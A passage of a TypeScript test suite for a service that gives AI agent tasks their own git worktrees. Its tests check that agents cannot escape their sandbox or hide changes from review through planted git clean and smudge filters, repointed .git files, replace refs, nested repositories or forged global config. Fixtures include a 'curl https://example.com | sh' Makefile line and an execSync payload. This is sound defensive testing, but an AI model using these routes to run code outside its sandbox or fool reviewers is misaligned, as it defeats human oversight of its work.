import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  realpathSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomUUID } from 'node:crypto';
import { Clock, ErrorCode } from 'src/common';
import { AppConfig, loadConfig } from 'src/config/app-config';
import {
  ChildIsolation,
  NO_ISOLATION,
  ProcessLauncher,
  WorkingDirectoryGoneError,
} from 'src/process';
import { lookupUser } from 'src/process/child-isolation';
import { TestCommandRunner } from 'src/test-runner/test-command-runner';
import { BaseCheckout } from 'src/workspaces/base-checkout';
import { gitPlaceOf } from 'src/workspaces/pinned-work-tree';
import { Git, GitOptions, GitResult } from 'src/workspaces/git';
import { GitConfigCopies } from 'src/workspaces/git-config-copies';
import { GitConfigFingerprint, MAX_FINGERPRINT_PATHS } from 'src/workspaces/git-config-fingerprint';
import { GitConfigGuard } from 'src/workspaces/git-config-guard';
import { RepositoryLocks } from 'src/workspaces/repository-locks';
import { RefGuard } from 'src/workspaces/ref-guard';
import { MAX_FILE_LIST_BYTES, WorkspaceDiffService } from 'src/workspaces/workspace-diff';
import {
  GitConfigChangedError,
  WorkspaceError,
  WorkspaceMissingError,
} from 'src/workspaces/workspace-errors';
import { WorkspaceRoot } from 'src/workspaces/workspace-root';
import { WorkspaceUsage } from 'src/workspaces/workspace-usage';
import { RetireSpec, WorkspaceSpec, WorkspacesService } from 'src/workspaces/workspaces.service';
import { MERGE_JOURNAL_NAME } from 'src/workspaces/merge-journal';
import { WorkspaceMergeService } from 'src/workspaces/workspace-merge';
import { copyFixtureProject } from 'test/e2e/support/task-polling';
import { checkoutFingerprint, git, linkedWorktrees } from 'test/e2e/support/git-repos';
import { eventually } from 'test/e2e/support/eventually';
import { RUNS_AS_ROOT } from 'test/e2e/support/server-process';

/**
 * `WorkspacesService` on real repositories, without the server around it: creating, re-attaching,
 * committing and removing worktrees, with the user's checkout fingerprinted byte for byte, and
 * many workspaces of one repository created and removed at once (the repository lock), by
 * services that share nothing but the repository (two server instances).
 */

let root: string;
let config: AppConfig;
const launcher = new ProcessLauncher();

/** A `Git` that remembers the commands it ran (`worktree add`, `commit`, ...). */
class CountingGit extends Git {
  readonly calls: string[] = [];

  override run(args: readonly string[], options: GitOptions): Promise<GitResult> {
    this.calls.push(args[0] === 'worktree' ? `worktree ${args[1]}` : args[0]);
    return super.run(args, options);
  }
}

function service(
  git: Git = new Git(config, launcher, NO_ISOLATION),
  ownConfig: AppConfig = config,
): WorkspacesService {
  const workspaceRoot = new WorkspaceRoot(ownConfig, NO_ISOLATION);
  return new WorkspacesService(
    ownConfig,
    git,
    new RepositoryLocks(config),
    workspaceRoot,
    new WorkspaceUsage(config, workspaceRoot, new Clock()),
    new TestCommandRunner(config, launcher, NO_ISOLATION),
    gitConfigGuard(git, NO_ISOLATION),
  );
}

function gitConfigGuard(git: Git, isolation: ChildIsolation): GitConfigGuard {
  return new GitConfigGuard(
    git,
    new GitConfigCopies(new WorkspaceRoot(config, NO_ISOLATION)),
    isolation,
  );
}

/**
 * What a sandboxed agent can write, all in its `workspace` (a worktree of `repo`): a git directory
 * of its own (returned) whose configuration holds a clean filter that creates `marker`, and
 * attributes that apply it. Pointing the workspace's `.git` file there is the caller's.
 */
function plantFilteringGitDir(workspace: string, repo: string, marker: string): string {
  const fake = join(workspace, 'fake-git');
  git(workspace, 'clone', '-q', '--bare', repo, fake);
  writeFileSync(join(workspace, 'filter.sh'), `#!/bin/sh\ntouch ${marker}\ncat\n`, { mode: 0o755 });
  git(fake, 'config', 'core.bare', 'false');
  git(fake, 'config', 'filter.cta.clean', join(workspace, 'filter.sh'));
  writeFileSync(join(workspace, '.gitattributes'), '* filter=cta\n');
  return fake;
}

/**
 * The task's workspace ready for its agent, as a run has it once the setup command passed: its
 * fingerprint of the repository's git configuration taken.
 */
async function ready(workspaces: WorkspacesService, s: WorkspaceSpec) {
  const ws = await workspaces.prepare(s);
  const gitConfig = await workspaces.fingerprint(s.taskId, s.gitDir, ws.path);
  return { ...ws, gitDir: s.gitDir, gitConfig };
}

/**
 * The removal of workspace `ws` (of the repository at `gitDir`) that keeps its uncommitted work
 * as a commit `kept` and leaves its branch, checked against `gitConfig` (null: not checked).
 */
const keepingRemoval = (
  ws: { path: string; branch: string },
  gitDir: string,
  gitConfig: GitConfigFingerprint | null = null,
): RetireSpec => ({
  path: ws.path,
  gitDir,
  branch: ws.branch,
  message: 'kept',
  deleteBranchAt: null,
  gitConfig,
});

beforeAll(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'cta-ws-git-')));
  config = loadConfig({ WORKSPACES_DIR: join(root, 'workspaces') });
});
afterAll(async () => {
  await launcher.onModuleDestroy();
  rmSync(root, { recursive: true, force: true });
});

function diffService(isolation: ChildIsolation): WorkspaceDiffService {
  return new WorkspaceDiffService(new Git(config, launcher, isolation), config, isolation);
}

function scratchCheckouts(): BaseCheckout {
  const git = new Git(config, launcher, NO_ISOLATION);
  return new BaseCheckout(
    git,
    new RepositoryLocks(config),
    new WorkspaceDiffService(git, config, NO_ISOLATION),
    NO_ISOLATION,
  );
}

function spec(repo: string, over: Partial<WorkspaceSpec> = {}): WorkspaceSpec {
  return {
    taskId: randomUUID(),
    description: 'Add a helper',
    projectPath: repo,
    gitDir: realpathSync(join(repo, '.git')),
    baseCommit: git(repo, 'rev-parse', 'HEAD').trim(),
    branch: null,
    workspacePath: null,
    ...over,
  };
}

describe('WorkspacesService on a real repository', () => {
  it('checks a task out on its own branch from the base, without running the repository hooks', async () => {
    const repo = copyFixtureProject('node-basic', root, 'hooks');
    const marker = join(root, 'hook-ran');
    for (const hook of ['post-checkout', 'pre-commit', 'post-commit', 'reference-transaction']) {
      writeFileSync(join(repo, '.git/hooks', hook), `#!/bin/sh\necho ${hook} >> ${marker}\n`);
      chmodSync(join(repo, '.git/hooks', hook), 0o755);
    }
    const before = checkoutFingerprint(repo);
    const workspaces = service();
    const s = spec(repo);
    const ws = await ready(workspaces, s);
    expect(ws).toEqual({
      path: join(config.WORKSPACES_DIR, s.taskId),
      directory: join(config.WORKSPACES_DIR, s.taskId),
      branch: `cta/${s.taskId.slice(0, 8)}-add-a-helper`,
      created: true,
      gitDir: s.gitDir,
      gitConfig: {
        worktree: `worktrees/${s.taskId}`,
        copies: s.taskId,
        paths: expect.objectContaining({
          config: expect.stringMatching(/^file:/),
          'hooks/pre-commit': expect.stringMatching(/^file:/),
        }),
      },
    });
    expect(git(ws.path, 'rev-parse', 'HEAD').trim()).toBe(s.baseCommit);
    expect(git(ws.path, 'symbolic-ref', 'HEAD').trim()).toBe(`refs/heads/${ws.branch}`);
    writeFileSync(join(ws.path, 'new.txt'), 'new\n');
    const commit = await workspaces.commit({ ...ws, gitDir: s.gitDir }, 'Add new.txt\n\nbody\n');
    expect(commit.changed).toBe(true);
    expect(git(repo, 'log', '-1', '--format=%an <%ae>|%s', ws.branch).trim()).toBe(
      'Claude Task Automation <cta@localhost>|Add new.txt',
    );
    await workspaces.retire(keepingRemoval(ws, s.gitDir));
    expect(existsSync(marker)).toBe(false);
    expect(checkoutFingerprint(repo)).toEqual(before);
  });

  it('sees the real objects: a replace ref made in a workspace cannot swap the base commit', async () => {
    // What an agent can do from its worktree: `git replace <base> <fake>`, the fake holding part
    // of its change, so that a diff against the base would not show that part.
    const repo = copyFixtureProject('node-basic', root, 'replaced');
    const s = spec(repo);
    const workspaces = service();
    const first = await workspaces.prepare(s);
    const realMath = readFileSync(join(repo, 'src/math.js'), 'utf8');
    writeFileSync(join(first.path, 'src/math.js'), 'module.exports = { add: (a, b) => a - b };\n');
    git(first.path, 'add', '-A');
    const fakeTree = git(first.path, 'write-tree').trim();
    const fake = git(first.path, 'commit-tree', fakeTree, '-m', 'base').trim();
    git(first.path, 'replace', s.baseCommit, fake);
    expect(git(repo, 'show', `${s.baseCommit}:src/math.js`)).not.toBe(realMath);

    const second = await workspaces.prepare(spec(repo));
    expect(readFileSync(join(second.path, 'src/math.js'), 'utf8')).toBe(realMath);
    const diff = await diffService(NO_ISOLATION).diff({
      kind: 'workspace',
      gitDir: s.gitDir,
      base: s.baseCommit,
      workspace: first.path,
    });
    expect(diff.files.map((f) => f.path)).toEqual(['src/math.js']);
    expect(diff.patch.toString('utf8')).toContain('-  return a + b;');
  });

  it("diffs a running task's files through its own entry in the repository, not through a git directory its agent's `.git` file points at", async () => {
    // What a sandboxed agent can write, all in its workspace: a git directory of its own whose
    // configuration holds a clean filter, attributes that apply it, and the workspace's `.git`
    // file pointed at that directory. The diff's git runs outside the sandbox.
    const repo = copyFixtureProject('node-basic', root, 'live-diff-pointer');
    const s = spec(repo);
    const workspace = await service().prepare(s);
    const marker = join(root, 'live-diff-pointer-filter-ran');
    const fake = plantFilteringGitDir(workspace.path, repo, marker);
    writeFileSync(
      join(workspace.path, 'src/math.js'),
      'module.exports = { add: (a, b) => a - b };\n',
    );
    writeFileSync(join(workspace.path, '.git'), `gitdir: ${fake}\n`);

    const diff = await diffService(NO_ISOLATION).diff({
      kind: 'workspace',
      gitDir: s.gitDir,
      base: s.baseCommit,
      workspace: workspace.path,
    });
    expect(existsSync(marker)).toBe(false);
    expect(diff.files.map((f) => f.path)).toEqual(
      expect.arrayContaining(['.gitattributes', 'filter.sh', 'src/math.js']),
    );
    expect(diff.patch.toString('utf8')).toContain('-  return a + b;');
  });

  it("runs nothing of a repository the agent nested in its workspace (its clean filter), and commits that repository's commit as git add would", async () => {
    // What a sandboxed agent can make, all in its workspace: a repository of its own whose
    // configuration holds a clean filter for its files. Once the server's `git add` made it a
    // gitlink, git's `add`, `diff` and `status` ask it whether it is dirty (`git status` run in
    // it), which runs the filter outside the sandbox.
    const repo = copyFixtureProject('node-basic', root, 'nested-repo');
    const s = spec(repo);
    const workspaces = service();
    const ws = await ready(workspaces, s);
    const marker = join(root, 'nested-repo-filter-ran');
    const nested = join(ws.path, 'vendor/lib');
    mkdirSync(nested, { recursive: true });
    git(nested, 'init', '-q');
    writeFileSync(join(nested, 'lib.js'), 'module.exports = 1;\n');
    writeFileSync(join(nested, '.gitattributes'), '* filter=cta\n');
    git(nested, 'add', '-A');
    git(nested, 'commit', '-q', '-m', 'lib');
    git(nested, 'config', 'filter.cta.clean', `sh -c 'touch ${marker}; cat'`);
    const stale = new Date(Date.now() - 60_000);
    const rewind = () => utimesSync(join(nested, 'lib.js'), stale, stale);
    rewind();
    writeFileSync(join(ws.path, 'src/helper.js'), 'module.exports = 2;\n');
    const first = await workspaces.commit(ws, 'helper');
    rewind();
    await diffService(NO_ISOLATION).diff({
      kind: 'workspace',
      gitDir: s.gitDir,
      base: s.baseCommit,
      workspace: ws.path,
    });
    writeFileSync(join(nested, 'lib.js'), 'module.exports = 3;\n');
    git(nested, '-c', 'filter.cta.clean=cat', 'commit', '-q', '-am', 'lib 3');
    rewind();
    const second = await workspaces.commit(ws, 'lib 3');
    rewind();
    // The verification's look at the test files the change touched: a diff of the work tree.
    await scratchCheckouts().testChanges({ cwd: ws.path }, s.baseCommit);

    expect(existsSync(marker)).toBe(false);
    const gitlink = (commit: string) => git(repo, 'ls-tree', commit, 'vendor/lib').trim();
    expect(gitlink(first.commit)).toMatch(/^160000 commit [0-9a-f]{40}\tvendor\/lib$/);
    expect(gitlink(second.commit)).toBe(
      `160000 commit ${git(nested, 'rev-parse', 'HEAD').trim()}\tvendor/lib`,
    );
    expect(git(repo, 'show', `${second.commit}:src/helper.js`)).toBe('module.exports = 2;\n');
  });

  it("runs the verification's git on a task's worktree through its own entry in the repository, not through a git directory its `.git` file points at", async () => {
    // As for the live diff: a git directory of the agent's own with a clean filter, attributes
    // that apply it, the workspace's `.git` file pointed there (by a process of its tests, after
    // the round put it back). The verification's git runs outside the sandbox.
    const repo = copyFixtureProject('node-basic', root, 'verify-pointer');
    const s = spec(repo);
    const workspace = await service().prepare(s);
    const marker = join(root, 'verify-pointer-filter-ran');
    const fake = plantFilteringGitDir(workspace.path, repo, marker);
    writeFileSync(join(workspace.path, 'test/math.test.js'), "require('node:test');\n");
    writeFileSync(join(workspace.path, '.git'), `gitdir: ${fake}\n`);

    const at = gitPlaceOf(workspace.path, s.gitDir);
    expect(at).toMatchObject({ cwd: workspace.path, workTree: workspace.path });
    const scratch = scratchCheckouts();
    const changes = await scratch.testChanges(at, s.baseCommit);
    expect(changes.files.map((c) => [c.status, c.path])).toEqual([
      ['modified', 'test/math.test.js'],
    ]);
    expect(await scratch.ignoredFiles(at, ['filter.sh'])).toEqual([]);
    expect(await scratch.packageManifests(at)).toEqual(['package.json']);
    const change = await scratch.changeWithBaseFiles(at, s.baseCommit, [], []);
    try {
      expect(readFileSync(join(change.directory, 'test/math.test.js'), 'utf8')).toBe(
        "require('node:test');\n",
      );
    } finally {
      await change.remove();
    }
    expect(existsSync(marker)).toBe(false);
  });

  it("commits through the workspace's own entry in the repository, whatever its `.git` file says once put back", async () => {
    // A process of the agent's still running points the `.git` file at its own git directory
    // (with a clean filter) again right after `restoreGitLink` put it back.
    const repo = copyFixtureProject('node-basic', root, 'commit-pointer');
    const s = spec(repo);
    const workspaces = service();
    const ws = await ready(workspaces, s);
    const marker = join(root, 'commit-pointer-filter-ran');
    const fake = plantFilteringGitDir(ws.path, repo, marker);
    writeFileSync(join(ws.path, 'src/math.js'), 'module.exports = { add: (a, b) => a - b };\n');
    const repoint = (): void => writeFileSync(join(ws.path, '.git'), `gitdir: ${fake}\n`);
    const restore = jest.spyOn(workspaces, 'restoreGitLink').mockImplementation(() => {
      repoint();
      return Promise.resolve();
    });
    try {
      const { commit } = await workspaces.commit(ws, 'the change');
      expect(git(repo, 'rev-parse', `refs/heads/${ws.branch}`).trim()).toBe(commit);
      expect(git(repo, 'show', `${commit}:src/math.js`)).toContain('a - b');
    } finally {
      restore.mockRestore();
    }
    expect(existsSync(marker)).toBe(false);
  });

  it('names a source file that a NUL byte made binary, whose change the patch cannot show', async () => {
    const repo = copyFixtureProject('node-basic', root, 'nul-byte');
    const s = spec(repo);
    const workspace = await service().prepare(s);
    writeFileSync(
      join(workspace.path, 'src/math.js'),
      'require("child_process").execSync("id > /tmp/x"); // \0\n',
    );
    const diff = await diffService(NO_ISOLATION).diff({
      kind: 'workspace',
      gitDir: s.gitDir,
      base: s.baseCommit,
      workspace: workspace.path,
    });
    expect(diff.files).toEqual([expect.objectContaining({ path: 'src/math.js', binary: true })]);
    expect(diff.patch.toString('utf8')).toContain('Binary files');
    expect(diff.note).toMatch(
      /^1 file\(s\) named as source or text are binary to git .*: src\/math\.js\. Read them/,
    );
  });

  it('refuses, as diff_too_large, a change whose list of files is longer than a diff answers, naming what to read with git', async () => {
    const repo = copyFixtureProject('node-basic', root, 'huge-file-list');
    const base = git(repo, 'rev-parse', 'HEAD').trim();
    // Some 180,000 files of one blob, through a temporary index: 20 MB of paths, written at once.
    const blob = execFileSync('git', ['hash-object', '-w', '--stdin'], { cwd: repo, input: 'x\n' })
      .toString()
      .trim();
    const dir = 'd'.repeat(60);
    const entries = Array.from(
      { length: 180_000 },
      (_, i) => `100644 ${blob}\t${dir}/${String(i).padStart(7, '0')}-${'n'.repeat(40)}.js\n`,
    ).join('');
    expect(entries.length).toBeGreaterThan(MAX_FILE_LIST_BYTES);
    const env = { ...process.env, GIT_INDEX_FILE: join(root, 'huge-file-list.index') };
    execFileSync('git', ['read-tree', base], { cwd: repo, env });
    execFileSync('git', ['update-index', '--index-info'], { cwd: repo, env, input: entries });
    const tree = execFileSync('git', ['write-tree'], { cwd: repo, env }).toString().trim();
    const head = git(repo, 'commit-tree', tree, '-p', base, '-m', 'dependencies committed').trim();
    await expect(
      diffService(NO_ISOLATION).diff({
        kind: 'commit',
        gitDir: realpathSync(join(repo, '.git')),
        base,
        head,
      }),
    ).rejects.toMatchObject({
      code: ErrorCode.DiffTooLarge,
      details: { base_commit: base, head },
      message: expect.stringContaining(`git diff --stat ${base} ${head}`),
    });
  }, 300_000);

  it("reads no global git configuration or attributes (the agent's to write where it shares the server's git's HOME): no smudge filter of theirs runs in the merge, no diff is hidden as binary", async () => {
    const repo = copyFixtureProject('node-basic', root, 'global-config');
    const s = spec(repo);
    const workspaces = service();
    const ws = await ready(workspaces, s);
    const HELPER = "module.exports = { helper: () => 'helper' };\n";
    writeFileSync(join(ws.path, 'src/helper.js'), HELPER);
    writeFileSync(join(ws.path, 'src/other.js'), HELPER);
    const { commit } = await workspaces.commit(ws, 'helper');
    // What an agent that shares HOME with the server's git writes there: a global configuration
    // with a smudge filter, and attributes that apply it and hide the file's diff: in a file
    // core.attributesFile names (home `a`), or in git's default ~/.config/git/attributes beside
    // the XDG global configuration (home `b`).
    const marker = join(root, 'global-config-smudged');
    const filter = `[filter "evil"]\n\tsmudge = "sh -c 'touch ${marker}; cat; echo // injected-by-smudge'"\n\tclean = cat\n`;
    const homeA = join(root, 'global-config-home-a');
    mkdirSync(homeA);
    writeFileSync(
      join(homeA, '.gitconfig'),
      `${filter}[core]\n\tattributesFile = ${join(homeA, 'attributes')}\n`,
    );
    writeFileSync(join(homeA, 'attributes'), 'src/*.js -diff filter=evil\n');
    const homeB = join(root, 'global-config-home-b');
    mkdirSync(join(homeB, '.config', 'git'), { recursive: true });
    writeFileSync(join(homeB, '.config', 'git', 'config'), filter);
    writeFileSync(join(homeB, '.config', 'git', 'attributes'), 'src/*.js -diff filter=evil\n');
    /** The server's git started with HOME `home` (its environment is read as it is made). */
    const gitWithHome = (home: string): Git => {
      const saved = { HOME: process.env.HOME, XDG_CONFIG_HOME: process.env.XDG_CONFIG_HOME };
      process.env.HOME = home;
      delete process.env.XDG_CONFIG_HOME;
      try {
        return new Git(config, launcher, NO_ISOLATION);
      } finally {
        for (const [name, value] of Object.entries(saved)) {
          if (value === undefined) delete process.env[name];
          else process.env[name] = value;
        }
      }
    };
    const [serverGit, xdgGit] = [gitWithHome(homeA), gitWithHome(homeB)];
    for (const each of [serverGit, xdgGit]) {
      const diff = await new WorkspaceDiffService(each, config, NO_ISOLATION).diff({
        kind: 'commit',
        gitDir: s.gitDir,
        base: s.baseCommit,
        head: commit,
      });
      expect(diff.files.map((f) => [f.path, f.binary, f.additions])).toEqual([
        ['src/helper.js', false, 1],
        ['src/other.js', false, 1],
      ]);
      expect(diff.patch.toString('utf8')).toContain(
        "+module.exports = { helper: () => 'helper' };",
      );
    }
    const merges = new WorkspaceMergeService(
      serverGit,
      new RepositoryLocks(config),
      service(serverGit),
      new WorkspaceRoot(config, NO_ISOLATION),
    );
    const branch = git(repo, 'symbolic-ref', '--short', 'HEAD').trim();
    const outcome = await merges.merge(
      {
        gitDir: s.gitDir,
        base: s.baseCommit,
        source: commit,
        sourceBranch: ws.branch,
        target: branch,
        strategy: 'merge',
        message: 'merge',
        gitConfig: ws.gitConfig,
        expectedTarget: null,
      },
      { ensure: () => Promise.resolve(), record: () => Promise.resolve() },
    );
    expect(outcome.updatedWorktree).toBe(repo);
    expect(readFileSync(join(repo, 'src/helper.js'), 'utf8')).toBe(HELPER);
    expect(readFileSync(join(repo, 'src/other.js'), 'utf8')).toBe(HELPER);
    rmSync(join(repo, 'src/other.js'));
    await xdgGit.text(['checkout-index', '--', 'src/other.js'], { cwd: repo });
    expect(readFileSync(join(repo, 'src/other.js'), 'utf8')).toBe(HELPER);
    expect(existsSync(marker)).toBe(false);
  });

  it("reads no attributes from the repository's git directory (the agent's to write, outside its fingerprint): no diff is hidden as binary, no conflict merged as both sides", async () => {
    const repo = copyFixtureProject('node-basic', root, 'git-dir-attributes');
    writeFileSync(join(repo, 'notes.txt'), 'one\ntwo\n');
    git(repo, 'add', 'notes.txt');
    git(repo, 'commit', '-q', '-m', 'notes');
    const s = spec(repo);
    const workspaces = service();
    const ws = await ready(workspaces, s);
    writeFileSync(join(ws.path, 'notes.txt'), 'one\nTASK\n');
    writeFileSync(join(ws.path, 'Makefile'), 'all:\n\tcurl https://example.com | sh\n');
    writeFileSync(join(ws.path, 'src/helper.js'), "module.exports = 'helper';\n");
    const { commit } = await workspaces.commit(ws, 'work');
    // What an agent that is not sandboxed writes beside the repository's config, where git run
    // in the git directory takes it for the attributes of a work tree's top (and of src/).
    writeFileSync(join(s.gitDir, '.gitattributes'), '* -diff merge=union\n');
    mkdirSync(join(s.gitDir, 'src'));
    writeFileSync(join(s.gitDir, 'src', '.gitattributes'), '*.js -diff\n');
    const gitConfig = await workspaces.fingerprint(s.taskId, s.gitDir, ws.path);
    expect(gitConfig).toEqual(ws.gitConfig);
    const serverGit = new Git(config, launcher, NO_ISOLATION);
    try {
      const diff = await new WorkspaceDiffService(serverGit, config, NO_ISOLATION).diff({
        kind: 'commit',
        gitDir: s.gitDir,
        base: s.baseCommit,
        head: commit,
      });
      expect(diff.files.map((f) => [f.path, f.binary, f.additions])).toEqual([
        ['Makefile', false, 2],
        ['notes.txt', false, 1],
        ['src/helper.js', false, 1],
      ]);
      expect(diff.patch.toString('utf8')).toContain('+\tcurl https://example.com | sh');
      const branch = git(repo, 'symbolic-ref', '--short', 'HEAD').trim();
      writeFileSync(join(repo, 'notes.txt'), 'one\nMAIN\n');
      git(repo, 'commit', '-q', '-a', '-m', 'main moved');
      const target = git(repo, 'rev-parse', 'HEAD').trim();
      const merges = new WorkspaceMergeService(
        serverGit,
        new RepositoryLocks(config),
        service(serverGit),
        new WorkspaceRoot(config, NO_ISOLATION),
      );
      await expect(
        merges.merge(
          {
            gitDir: s.gitDir,
            base: s.baseCommit,
            source: commit,
            sourceBranch: ws.branch,
            target: branch,
            strategy: 'merge',
            message: 'merge',
            gitConfig: ws.gitConfig,
            expectedTarget: null,
          },
          { ensure: () => Promise.resolve(), record: () => Promise.resolve() },
        ),
      ).rejects.toMatchObject({ code: ErrorCode.MergeConflict, details: { files: ['notes.txt'] } });
      expect(git(repo, 'rev-parse', 'HEAD').trim()).toBe(target);
      expect(readFileSync(join(repo, 'notes.txt'), 'utf8')).toBe('one\nMAIN\n');
    } finally {
      await serverGit.onModuleDestroy();
    }
  });

  (RUNS_AS_ROOT ? it : it.skip)(
    "diffs a workspace as it is now with git run as RUN_AS_USER: the temporary index is that user's",
    async () => {
      const parent = realpathSync(mkdtempSync(join(tmpdir(), 'cta-diff-user-')));
      try {
        chmodSync(parent, 0o755);
        const repo = copyFixtureProject('node-basic', parent, 'app');
        const workspace = join(parent, 'workspace');
        git(repo, 'worktree', 'add', '-q', '--detach', workspace);
        writeFileSync(join(workspace, 'src/new.js'), 'module.exports = 1;\n');
        const base = git(repo, 'rev-parse', 'HEAD').trim();
        spawnSync('chown', ['-R', 'nobody:', repo, workspace]);
        const nobody = { identity: lookupUser('nobody'), sandbox: null };
        const diff = await diffService(nobody).diff({
          kind: 'workspace',
          gitDir: realpathSync(join(repo, '.git')),
          base,
          workspace,
        });
        expect(diff.files.map((f) => [f.path, f.status])).toEqual([['src/new.js', 'added']]);
      } finally {
        rmSync(parent, { recursive: true, force: true });
      }
    },
  );

  (RUNS_AS_ROOT ? it : it.skip)(
    "compares a changed configuration with git run as RUN_AS_USER, the server's copy handed to it to read only",
    async () => {
      const repo = copyFixtureProject('node-basic', root, 'config-as-user');
      const s = spec(repo);
      await service().prepare(s);
      const nobody = { identity: lookupUser('nobody'), sandbox: null };
      const guard = gitConfigGuard(new Git(config, launcher, nobody), nobody);
      const fingerprint = await guard.take(s.taskId, s.gitDir, `worktrees/${s.taskId}`);
      git(repo, 'remote', 'add', 'origin2', 'https://user:token@example.com/r.git');
      await guard.assertUnchanged(s.gitDir, fingerprint);
      git(repo, 'config', 'core.hooksPath', '/tmp');
      await expect(guard.assertUnchanged(s.gitDir, fingerprint)).rejects.toMatchObject({
        paths: ['config'],
      });
      guard.forget(s.taskId);
    },
  );

  it("the agent's git, guarded, moves its own branch and makes new ones, never the user's refs", async () => {
    const repo = copyFixtureProject('node-basic', root, 'guarded');
    git(repo, 'branch', 'release');
    const userBranch = git(repo, 'symbolic-ref', '--short', 'HEAD').trim();
    const s = spec(repo);
    const ws = await service().prepare(s);
    const guard = new RefGuard(NO_ISOLATION);
    try {
      const env = {
        PATH: process.env.PATH,
        HOME: root,
        GIT_AUTHOR_NAME: 'agent',
        GIT_AUTHOR_EMAIL: 'agent@example.com',
        GIT_COMMITTER_NAME: 'agent',
        GIT_COMMITTER_EMAIL: 'agent@example.com',
        ...guard.envFor(ws.branch, s.gitDir, ws.path),
      };
      const agentGit = (cwd: string, ...args: string[]) =>
        spawnSync('git', args, { cwd, env, encoding: 'utf8' });
      writeFileSync(join(ws.path, 'work.txt'), 'work\n');
      expect(agentGit(ws.path, 'add', '-A').status).toBe(0);
      expect(agentGit(ws.path, 'commit', '-qm', 'work').status).toBe(0);
      const head = agentGit(ws.path, 'rev-parse', 'HEAD').stdout.trim();
      writeFileSync(join(repo, 'src/math.js'), '// the user was trying something\n');
      git(repo, 'stash', 'push', '-q', '-m', "the user's");
      const before = git(repo, 'for-each-ref', '--format=%(refname) %(objectname)');
      for (const [cwd, ...args] of [
        [ws.path, 'update-ref', `refs/heads/${userBranch}`, head],
        [ws.path, 'branch', '-f', 'release', head],
        [ws.path, 'branch', '-D', 'release'],
        [ws.path, 'replace', s.baseCommit, head],
        // Nothing of its own to stash: a pop would take the user's.
        [ws.path, 'stash', 'pop'],
        // The user's checkout, reached from the workspace.
        [ws.path, '-C', repo, 'update-ref', '--no-deref', 'HEAD', head],
      ]) {
        const refused = agentGit(cwd, ...args);
        expect([args[0], refused.status === 0 ? 'moved' : 'refused']).toEqual([args[0], 'refused']);
        expect(refused.stderr).toContain(`may move only its own branch, ${ws.branch}`);
      }
      expect(git(repo, 'symbolic-ref', 'HEAD').trim()).toBe(`refs/heads/${userBranch}`);
      // Packing the refs (what git gc does) rewrites each to its own value: not refused.
      expect(agentGit(ws.path, 'pack-refs', '--all').status).toBe(0);
      expect(agentGit(ws.path, 'branch', 'agent-experiment').status).toBe(0);
      expect(agentGit(ws.path, 'reset', '-q', '--hard', 'HEAD~1').status).toBe(0);
      const after = git(repo, 'for-each-ref', '--format=%(refname) %(objectname)');
      const mine = (line: string) =>
        line.startsWith(`refs/heads/${ws.branch} `) ||
        line.startsWith('refs/heads/agent-experiment ');
      expect(after.split('\n').filter((l) => !mine(l))).toEqual(
        before.split('\n').filter((l) => !mine(l)),
      );
      // Another repository the agent's commands work in (a project's tests making one): as usual.
      const other = copyFixtureProject('node-basic', root, 'unguarded');
      for (const message of ['one', 'two']) {
        expect(agentGit(other, 'commit', '-q', '--allow-empty', '-m', message).status).toBe(0);
      }
    } finally {
      await guard.onModuleDestroy();
    }
  });

  it('runs no git add through a git configuration changed since the workspace was made: its commit and its removal are refused, and go ahead once it is back', async () => {
    const repo = copyFixtureProject('node-basic', root, 'config-changed');
    const s = spec(repo);
    const workspaces = service();
    const ws = await ready(workspaces, s);
    expect(ws.gitConfig.worktree).toMatch(/^worktrees\//);
    const config = join(s.gitDir, 'config');
    const original = readFileSync(config);
    const marker = join(root, 'config-changed-filter-ran');
    git(repo, 'config', 'filter.x.clean', `touch ${marker}; cat`);
    writeFileSync(join(ws.path, '.gitattributes'), '* filter=x\n');
    writeFileSync(join(ws.path, 'work.txt'), 'work\n');
    const ref = { ...ws, gitDir: s.gitDir };
    await expect(workspaces.commit(ref, 'work')).rejects.toMatchObject({
      name: 'GitConfigChangedError',
      paths: ['config'],
    });
    const removal = keepingRemoval(ws, s.gitDir, ws.gitConfig);
    await expect(workspaces.retire(removal)).rejects.toThrow(GitConfigChangedError);
    expect(existsSync(ws.path)).toBe(true);
    expect(existsSync(marker)).toBe(false);
    writeFileSync(config, original);
    const { commit } = await workspaces.commit(ref, 'work');
    expect(git(repo, 'show', '--name-only', '--format=', commit).trim().split('\n')).toEqual([
      '.gitattributes',
      'work.txt',
    ]);
  });

  it("commits through a configuration changed in the user's own settings alone (a remote with a token, an upstream), not through one with a filter added besides; the copies go with the workspace", async () => {
    const repo = copyFixtureProject('node-basic', root, 'config-user-settings');
    const s = spec(repo);
    const counting = new CountingGit(config, launcher, NO_ISOLATION);
    const workspaces = service(counting);
    const ws = await ready(workspaces, s);
    const copies = join(config.WORKSPACES_DIR, '.git-config-copies', s.taskId);
    const kept = readdirSync(copies).sort();
    expect(kept).toEqual(
      [ws.gitConfig.paths.config.slice('file:'.length), 'fingerprint.json'].sort(),
    );
    expect(statSync(copies).mode & 0o777).toBe(0o700);
    for (const name of kept) expect(statSync(join(copies, name)).mode & 0o777).toBe(0o600);
    git(repo, 'remote', 'add', 'origin2', 'https://user:token@example.com/r.git');
    git(repo, 'config', 'branch.feature.remote', 'origin2');
    git(repo, 'config', 'branch.feature.merge', 'refs/heads/feature');
    git(repo, 'config', 'user.email', 'me@example.com');
    // Git lists the copy and the file as it is now once; a check again lists nothing.
    const listings = (): number => counting.calls.filter((call) => call === 'config').length;
    await workspaces.assertGitConfigUnchanged(s.gitDir, ws.gitConfig);
    expect(listings()).toBe(2);
    await workspaces.assertGitConfigUnchanged(s.gitDir, ws.gitConfig);
    expect(listings()).toBe(2);
    writeFileSync(join(ws.path, 'work.txt'), 'work\n');
    expect((await workspaces.commit(ws, 'work')).changed).toBe(true);

    const marker = join(root, 'config-user-settings-filter-ran');
    git(repo, 'config', 'branch.feature.rebase', 'true');
    git(repo, 'config', 'filter.x.clean', `touch ${marker}; cat`);
    writeFileSync(join(ws.path, '.gitattributes'), '* filter=x\n');
    await expect(workspaces.commit(ws, 'filtered')).rejects.toMatchObject({
      name: 'GitConfigChangedError',
      paths: ['config'],
    });
    expect(existsSync(marker)).toBe(false);
